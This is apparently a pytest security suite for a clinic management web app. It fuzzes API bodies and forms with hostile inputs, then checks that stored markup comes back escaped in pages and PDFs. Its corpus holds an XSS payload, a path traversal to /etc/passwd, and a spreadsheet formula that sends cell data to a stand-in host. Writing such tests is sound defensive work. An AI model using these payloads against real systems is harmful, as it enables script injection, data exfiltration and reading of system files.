"""The standing security suite's corpus: hostile values sent to every API operation that
takes a body (each field in turn, as integrations call: a bearer token) and to every form of
every clinic page (each field at once, as a browser posts), asserting that nothing answers
5xx and that an answer refusing the input wrote nothing. Then hostile text that *is* accepted
(a name with markup, a formula) is read back through the pages and PDFs: always escaped.

The sample rows, members and tokens are the URL walk's (``test_url_access``); every call runs
in a savepoint rolled back after it."""

import re
from html.parser import HTMLParser

import pytest
from django.db import IntegrityError, connection, transaction
from django.test.utils import CaptureQueriesContext

from clinicos.tests.test_url_access import (
    API_ROUTES,
    CLINIC_API,
    CLINIC_PAGES,
    PAGE_ROUTES,
    WELL_FORMED_BODIES,
    Walk,
    concrete_url,
    rolled_back,
)

pytestmark = [pytest.mark.security, pytest.mark.django_db]

CORPUS = {
    "nul": "a\x00b",
    "surrogate": "a\ud800b",
    "huge text": "x" * 20_001,
    "formula": '=HYPERLINK("http://evil.example/?"&A1,"Click")',
    "markup": '<script>alert(1)</script><img src=x onerror="alert(1)">',
    "path traversal": "../../../../etc/passwd",
    "2^64": 2**64,
    "-2^63-1": -(2**63) - 1,
    "not a number": "NaN",
    "true": True,
    "null": None,
    "list": [],
    "object": {},
    "day zero": "0000-00-00",
    "no such day": "2026-02-30",
    "far future": "9999-12-31T23:59:59+14:00",
    "float": 1e308,
}
# Whole bodies an API operation refuses, and what it answers.
WHOLE_BODIES = [("[]", "application/json", 422), ("null", "application/json", 422), ('"x"', "application/json", 422)]
WRONG_TYPE = ('{"a": 1}', "text/plain", 415)
NOT_UTF8 = (b'{"a": "\xff\xfe"}', "application/json", 400)

# Rows an answer may write even when it refuses the input: who read what (the read log),
# the token's last use, the session and the login limiter.
BOOKKEEPING = re.compile(r"(clinicos_readaccesslog|clinicos_apitoken|django_session|account_|clinicos_loginattempt)", re.I)
WRITE = re.compile(r"^\s*(INSERT|UPDATE|DELETE)\b", re.I)


def _writes(queries) -> list[str]:
    """The writes a request kept: those inside a savepoint it rolled back (a service's
    ``transaction.atomic`` that raised) are undone, so they are not stored."""
    kept: list[str] = []
    savepoints: list[tuple[str, int]] = []
    for query in queries:
        sql = query["sql"].strip()
        upper = sql.upper()
        if upper.startswith("SAVEPOINT "):
            savepoints.append((sql.split()[1], len(kept)))
        elif upper.startswith("ROLLBACK TO SAVEPOINT "):
            name = sql.split()[3]
            while savepoints:
                saved_name, position = savepoints.pop()
                if saved_name == name:
                    del kept[position:]
                    break
        elif upper.startswith("RELEASE SAVEPOINT "):
            name = sql.split()[2]
            while savepoints and savepoints.pop()[0] != name:
                pass
        elif WRITE.match(sql) and not BOOKKEEPING.search(sql):
            kept.append(sql[:160])
    return kept


@pytest.fixture(scope="module")
def walk(django_db_setup, django_db_blocker):
    with django_db_blocker.unblock(), transaction.atomic():
        yield Walk()
        transaction.set_rollback(True)


BODY_OPERATIONS = sorted(
    name for name, (method, *_perms) in CLINIC_API.items() if method in ("post", "patch", "put") and name in WELL_FORMED_BODIES
)


def test_every_operation_with_a_body_is_in_the_corpus_run():
    with_bodies = {name for name, (method, *_perms) in CLINIC_API.items() if method in ("post", "patch", "put")}
    # Operations without a body (issue, complete, review…) take no fields to fuzz; the
    # upload is multipart (its hostile files are the uploads tests').
    assert len(BODY_OPERATIONS) >= 35 and set(BODY_OPERATIONS) <= with_bodies


def _mutations(body: dict):
    """(label, body) with each field, and each field of the first row of a list, hostile."""
    for field in body:
        for label, value in CORPUS.items():
            yield f"{field}={label}", {**body, field: value}
        rows = body[field]
        if isinstance(rows, list) and rows and isinstance(rows[0], dict):
            for inner in rows[0]:
                for label, value in CORPUS.items():
                    yield f"{field}.0.{inner}={label}", {**body, field: [{**rows[0], inner: value}, *rows[1:]]}
    for label, value in CORPUS.items():
        yield f"unknown field={label}", {**body, "not_a_field": value}


@pytest.mark.parametrize("name", BODY_OPERATIONS)
def test_hostile_values_in_any_field_never_answer_5xx_and_a_refusal_writes_nothing(name, walk, client):
    method = CLINIC_API[name][0]
    api = walk.api(client, walk.member_of_every_role)
    ids = walk.ids
    url = concrete_url(API_ROUTES[name], {"code": walk.clinic.code, **ids})
    body = WELL_FORMED_BODIES[name]
    body = body(ids) if callable(body) else body
    for label, hostile in _mutations(body):
        with rolled_back(), CaptureQueriesContext(connection) as queries:
            response = getattr(api, method)(url, hostile)
        assert response.status_code < 500, f"{name} {label}: {response.status_code}"
        if response.status_code >= 400:
            assert not _writes(queries), f"{name} {label} answered {response.status_code} but wrote {_writes(queries)}"
        if label.endswith(("=nul", "=surrogate", "=huge text")) and isinstance(_value_at(body, label), str):
            assert response.status_code == 422, f"{name} {label}: {response.status_code} (text fields refuse it)"
    for raw, content_type, status in [*WHOLE_BODIES, WRONG_TYPE, NOT_UTF8]:
        with rolled_back(), CaptureQueriesContext(connection) as queries:
            response = getattr(client, method)(url, raw, content_type=content_type, HTTP_AUTHORIZATION=f"Bearer {api.token}")
        assert response.status_code == status, f"{name} {raw!r} as {content_type}: {response.status_code} {response.content[:200]}"
        assert not _writes(queries)


def _value_at(body: dict, label: str):
    path = label.split("=", 1)[0].split(".")
    value = body
    for part in path:
        if isinstance(value, list):
            value = value[int(part)]
        elif isinstance(value, dict) and part in value:
            value = value[part]
        else:
            return None
    return value


# --- Forms -------------------------------------------------------------------------------------


class _Forms(HTMLParser):
    """The POST forms of a page: (action, {field name: first value})."""

    def __init__(self):
        super().__init__()
        self.forms: list[tuple[str, dict]] = []
        self._current: dict | None = None

    def handle_starttag(self, tag, attrs):
        attrs = dict(attrs)
        if tag == "form" and (attrs.get("method") or "").lower() == "post":
            self._current = {}
            self.forms.append((attrs.get("action") or "", self._current))
        elif tag in ("input", "select", "textarea") and self._current is not None and attrs.get("name"):
            if attrs.get("type") in ("file", "submit", "button", "image"):
                return
            self._current.setdefault(attrs["name"], attrs.get("value") or "")

    def handle_endtag(self, tag):
        if tag == "form":
            self._current = None


FORM_PAGES = sorted(name for name, (method, *_perms) in CLINIC_PAGES.items() if method == "get")
# A form post is bytes: a lone surrogate cannot be encoded (a browser sends U+FFFD), and the
# invalid UTF-8 that stands for it is decoded by Django with replacement characters.
FORM_CORPUS = {label: value for label, value in CORPUS.items() if isinstance(value, str) and label != "surrogate"}


@pytest.mark.parametrize("name", FORM_PAGES)
def test_hostile_text_in_every_form_never_answers_5xx_and_a_refusal_writes_nothing(name, walk, client):
    client.force_login(walk.member_of_every_role)
    ids = walk.ids
    page_url = concrete_url(PAGE_ROUTES[name], {"clinic_code": walk.clinic.code, **ids})
    with rolled_back():
        page = client.get(page_url)
    if page.status_code != 200 or "text/html" not in page.get("Content-Type", ""):
        return
    parser = _Forms()
    parser.feed(page.content.decode())
    for action, fields in parser.forms:
        target = action or page_url
        if not target.startswith("/c/"):
            continue  # the sign-out and clinic-switch forms
        names = [field for field in fields if field not in ("csrfmiddlewaretoken",) and not field.endswith("TOTAL_FORMS")]
        if not names:
            continue
        for label, value in FORM_CORPUS.items():
            data = {**fields, **dict.fromkeys(names, value)}
            with rolled_back(), CaptureQueriesContext(connection) as queries:
                response = client.post(target, data)
            assert response.status_code < 500, f"{name}: {target} with {label}: {response.status_code}"
            refused = response.status_code >= 400 or (response.status_code == 200 and not response.get("HX-Redirect"))
            if refused and response.status_code != 200:
                assert not _writes(queries), f"{target} {label} answered {response.status_code} but wrote {_writes(queries)}"


# --- Stored payloads, read back ------------------------------------------------------------------

MARKUP = '<script>alert(1)</script><img src=x onerror="alert(1)">'


def _store_markup_in_every_text_field(clinic) -> int:
    """Every free-text column of the sample clinic's rows set to MARKUP (where it fits), as
    if typed by a hostile user or an imported file."""
    from django.apps import apps
    from django.db import models

    changed = 0
    for model in apps.get_models():
        if not any(field.name == "clinic" for field in model._meta.concrete_fields) or model._meta.label.startswith("simple_history"):
            continue
        # A column under a unique constraint (an ABHA address, a dedup key) cannot hold one text in every row.
        keyed = {
            name for constraint in model._meta.constraints if isinstance(constraint, models.UniqueConstraint) for name in constraint.fields
        }
        text_fields = [
            field.name
            for field in model._meta.concrete_fields
            if isinstance(field, models.CharField | models.TextField)
            and not field.choices
            and not field.unique
            and field.name not in keyed
            and (field.max_length or 10_000) >= len(MARKUP)
            and field.editable
            and not field.name.endswith(("_hash", "_encrypted", "token", "code", "uhid", "number", "reference", "email", "phone", "mobile"))
        ]
        if text_fields and not model.__name__.startswith("Historical"):
            try:
                with transaction.atomic():
                    changed += model._base_manager.filter(clinic=clinic).update(**dict.fromkeys(text_fields, MARKUP))
            except IntegrityError:  # a key (names indexed for search): one row may hold it, not all
                continue
    return changed


def test_stored_markup_is_escaped_in_every_page_and_printed_as_text_in_pdfs(walk, client):
    from pypdf import PdfReader

    client.force_login(walk.member_of_every_role)
    with rolled_back():
        assert _store_markup_in_every_text_field(walk.clinic) > 20
        seen_escaped = 0
        for name, (method, *_perms) in CLINIC_PAGES.items():
            if method != "get":
                continue
            url = concrete_url(PAGE_ROUTES[name], {"clinic_code": walk.clinic.code, **walk.ids})
            response = client.get(url)
            assert response.status_code < 500, url
            content_type = response.get("Content-Type", "")
            if "text/html" in content_type:
                html = response.content.decode()
                assert "<script>alert(1)" not in html and 'onerror="alert(1)"' not in html, f"unescaped markup in {url}"
                seen_escaped += "&lt;script&gt;alert(1)" in html
            elif content_type == "application/pdf":
                text = "".join(page.extract_text() for page in PdfReader(__import__("io").BytesIO(response.content)).pages)
                assert "<script>alert(1)</script>" in text.replace("\n", ""), f"{url} did not print the text as text"
        assert seen_escaped >= 10, "the payload shows (escaped) on the pages that show those rows"
